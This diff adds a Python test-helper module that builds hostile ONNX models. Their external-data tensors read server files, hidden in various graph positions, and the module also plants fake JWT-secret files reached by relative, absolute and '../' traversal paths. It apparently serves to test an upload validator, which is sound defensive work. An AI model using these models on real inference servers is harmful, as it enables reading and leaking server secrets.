@@ -1,0 +1,288 @@
+"""ONNX models whose tensors point at "external data": a file the server can read.
+
+Each builder returns a model that, if ONNX Runtime resolved its external data, would predict the
+first four bytes of that file (read as a float32) for every row: one numeric 2-D input of
+``n_features`` columns and one ``[rows, 1]`` float output, so it passes every other upload check.
+Only where the tensor sits in the model differs.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Sequence
+from pathlib import Path
+
+import numpy as np
+from onnx import (
+    GraphProto,
+    ModelProto,
+    NodeProto,
+    SparseTensorProto,
+    TensorProto,
+    helper,
+    numpy_helper,
+)
+
+LEAKED = "leaked"  # the [1] float tensor holding the file's first four bytes
+SECRET_MARKER = np.float32(4242.125)  # what those bytes say, in the secret files tests make
+
+
+def secret_bytes() -> bytes:
+    """A secret file's content: a marker a prediction would reveal, then more secret bytes."""
+    return SECRET_MARKER.tobytes() + b"not-for-any-caller" * 4
+
+
+def external_tensor(name: str, location: str, data_type: int = TensorProto.FLOAT) -> TensorProto:
+    """A one-element tensor whose data lives in ``location`` (what onnx.save writes with
+    save_as_external_data=True): no data of its own, only where to read it."""
+    tensor = TensorProto(name=name, data_type=data_type, dims=[1])
+    tensor.data_location = TensorProto.EXTERNAL
+    for key, value in (("location", location), ("offset", "0"), ("length", "4")):
+        entry = tensor.external_data.add()
+        entry.key, entry.value = key, value
+    return tensor
+
+
+def _model(
+    nodes: list[NodeProto],
+    n_features: int,
+    initializer: Sequence[TensorProto] = (),
+    sparse_initializer: Sequence[SparseTensorProto] = (),
+) -> ModelProto:
+    """``rows @ zeros + leaked``: the leaked value on every row."""
+    zeros = numpy_helper.from_array(np.zeros((n_features, 1), dtype=np.float32), "zeros")
+    tail = [
+        helper.make_node("MatMul", ["features", "zeros"], ["nothing"]),
+        helper.make_node("Add", ["nothing", LEAKED], ["variable"]),
+    ]
+    body = helper.make_graph(
+        [*nodes, *tail],
+        "hostile",
+        [helper.make_tensor_value_info("features", TensorProto.FLOAT, [None, n_features])],
+        [helper.make_tensor_value_info("variable", TensorProto.FLOAT, [None, 1])],
+        initializer=[zeros, *initializer],
+        sparse_initializer=list(sparse_initializer),
+    )
+    model = helper.make_model(body, opset_imports=[helper.make_opsetid("", 17)])
+    model.ir_version = 8
+    return model
+
+
+def _branch(name: str, location: str, output: str = "out") -> GraphProto:
+    """A subgraph with no inputs whose initializer is the external tensor."""
+    return helper.make_graph(
+        [helper.make_node("Identity", ["secret"], [output])],
+        name,
+        [],
+        [helper.make_tensor_value_info(output, TensorProto.FLOAT, [1])],
+        initializer=[external_tensor("secret", location)],
+    )
+
+
+def _true(name: str) -> NodeProto:
+    return helper.make_node(
+        "Constant", [], [name], value=helper.make_tensor(name, TensorProto.BOOL, [], [True])
+    )
+
+
+def _read_in_a_branch(name: str) -> list[NodeProto]:
+    """``leaked = name``, read from inside an If branch: ONNX Runtime's graph optimizers leave
+    values only a subgraph reads alone, so this is how an attacker gets a top-level value out."""
+    branch = helper.make_graph(
+        [helper.make_node("Identity", [name], ["out"])],
+        "reader",
+        [],
+        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [1])],
+    )
+    return [
+        _true("reader_condition"),
+        helper.make_node(
+            "If", ["reader_condition"], [LEAKED], then_branch=branch, else_branch=branch
+        ),
+    ]
+
+
+def top_level(location: str, n_features: int) -> ModelProto:
+    return _model(
+        _read_in_a_branch("secret"),
+        n_features,
+        initializer=[external_tensor("secret", location)],
+    )
+
+
+def constant_node(location: str, n_features: int) -> ModelProto:
+    node = helper.make_node("Constant", [], ["secret"], value=external_tensor("value", location))
+    return _model([node, *_read_in_a_branch("secret")], n_features)
+
+
+def if_branch(location: str, n_features: int) -> ModelProto:
+    nodes = [
+        _true("condition"),
+        helper.make_node(
+            "If",
+            ["condition"],
+            [LEAKED],
+            then_branch=_branch("then", location),
+            else_branch=_branch("else", location),
+        ),
+    ]
+    return _model(nodes, n_features)
+
+
+def nested_two_deep(location: str, n_features: int) -> ModelProto:
+    """An If whose branch holds another If whose branch holds the tensor."""
+    inner = helper.make_node(
+        "If",
+        ["inner_condition"],
+        ["out"],
+        then_branch=_branch("inner_then", location),
+        else_branch=_branch("inner_else", location),
+    )
+    outer_branch = helper.make_graph(
+        [_true("inner_condition"), inner],
+        "outer_then",
+        [],
+        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [1])],
+    )
+    harmless = helper.make_graph(
+        [
+            helper.make_node(
+                "Constant",
+                [],
+                ["out"],
+                value=helper.make_tensor("zero", TensorProto.FLOAT, [1], [0.0]),
+            )
+        ],
+        "outer_else",
+        [],
+        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [1])],
+    )
+    nodes = [
+        _true("condition"),
+        helper.make_node(
+            "If", ["condition"], [LEAKED], then_branch=outer_branch, else_branch=harmless
+        ),
+    ]
+    return _model(nodes, n_features)
+
+
+def loop_body(location: str, n_features: int) -> ModelProto:
+    """One iteration of a Loop whose body emits the tensor as its scan output."""
+    body = helper.make_graph(
+        [
+            helper.make_node("Identity", ["condition_in"], ["condition_out"]),
+            helper.make_node("Identity", ["secret"], ["out"]),
+        ],
+        "loop_body",
+        [
+            helper.make_tensor_value_info("iteration", TensorProto.INT64, []),
+            helper.make_tensor_value_info("condition_in", TensorProto.BOOL, []),
+        ],
+        [
+            helper.make_tensor_value_info("condition_out", TensorProto.BOOL, []),
+            helper.make_tensor_value_info("out", TensorProto.FLOAT, [1]),
+        ],
+        initializer=[external_tensor("secret", location)],
+    )
+    nodes = [
+        helper.make_node(
+            "Constant", [], ["trips"], value=helper.make_tensor("trips", TensorProto.INT64, [], [1])
+        ),
+        _true("condition"),
+        helper.make_node("Loop", ["trips", "condition"], ["stacked"], body=body),
+        helper.make_node(
+            "Constant",
+            [],
+            ["shape"],
+            value=helper.make_tensor("shape", TensorProto.INT64, [1], [1]),
+        ),
+        helper.make_node("Reshape", ["stacked", "shape"], [LEAKED]),
+    ]
+    return _model(nodes, n_features)
+
+
+def scan_body(location: str, n_features: int) -> ModelProto:
+    """A Scan over one element whose body adds the tensor to it (zero)."""
+    body = helper.make_graph(
+        [helper.make_node("Add", ["element", "secret"], ["out"])],
+        "scan_body",
+        [helper.make_tensor_value_info("element", TensorProto.FLOAT, [1])],
+        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [1])],
+        initializer=[external_tensor("secret", location)],
+    )
+    nodes = [
+        helper.make_node(
+            "Constant",
+            [],
+            ["scanned"],
+            value=helper.make_tensor("scanned", TensorProto.FLOAT, [1, 1], [0.0]),
+        ),
+        helper.make_node("Scan", ["scanned"], ["stacked"], body=body, num_scan_inputs=1),
+        helper.make_node(
+            "Constant",
+            [],
+            ["shape"],
+            value=helper.make_tensor("shape", TensorProto.INT64, [1], [1]),
+        ),
+        helper.make_node("Reshape", ["stacked", "shape"], [LEAKED]),
+    ]
+    return _model(nodes, n_features)
+
+
+def sparse_initializer(location: str, n_features: int) -> ModelProto:
+    """A sparse initializer (one stored value at index 0) whose values are external."""
+    sparse = helper.make_sparse_tensor(
+        external_tensor("secret", location),
+        numpy_helper.from_array(np.array([0], dtype=np.int64), "secret_indices"),
+        [1],
+    )
+    return _model(
+        [helper.make_node("Identity", ["secret"], [LEAKED])],
+        n_features,
+        sparse_initializer=[sparse],
+    )
+
+
+VARIANTS: dict[str, Callable[[str, int], ModelProto]] = {
+    "top-level-initializer": top_level,
+    "constant-node": constant_node,
+    "if-branch": if_branch,
+    "loop-body": loop_body,
+    "scan-body": scan_body,
+    "nested-two-deep": nested_two_deep,
+    "sparse-initializer": sparse_initializer,
+}
+
+
+def hostile_onnx(variant: str, location: str, n_features: int = 3) -> bytes:
+    return bytes(VARIANTS[variant](location, n_features).SerializeToString())
+
+
+def custom_op_in_a_branch(n_features: int = 3) -> bytes:
+    """An If branch that calls an operator from a custom domain (native code a library adds)."""
+    branch = helper.make_graph(
+        [helper.make_node("Evil", ["features"], ["out"], domain="com.attacker")],
+        "then",
+        [],
+        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [1])],
+    )
+    nodes = [
+        _true("condition"),
+        helper.make_node("If", ["condition"], [LEAKED], then_branch=branch, else_branch=branch),
+    ]
+    return bytes(_model(nodes, n_features).SerializeToString())
+
+
+def plant_secrets(root: Path) -> tuple[Path, dict[str, str]]:
+    """A working directory with a secret where the server used to keep its JWT secret
+    (``var/jwt-secret``), another secret next to that directory, and the external-data
+    locations that name them: relative, absolute, and with ".." staying inside or leaving."""
+    workdir = root / "workdir"
+    (workdir / "var").mkdir(parents=True)
+    (workdir / "var" / "jwt-secret").write_bytes(secret_bytes())
+    (root / "outside-secret").write_bytes(secret_bytes())
+    return workdir, {
+        "relative": "var/jwt-secret",
+        "absolute": str(workdir / "var" / "jwt-secret"),
+        "dot-dot-inside": "var/../var/jwt-secret",
+        "dot-dot-outside": "../outside-secret",
+    }
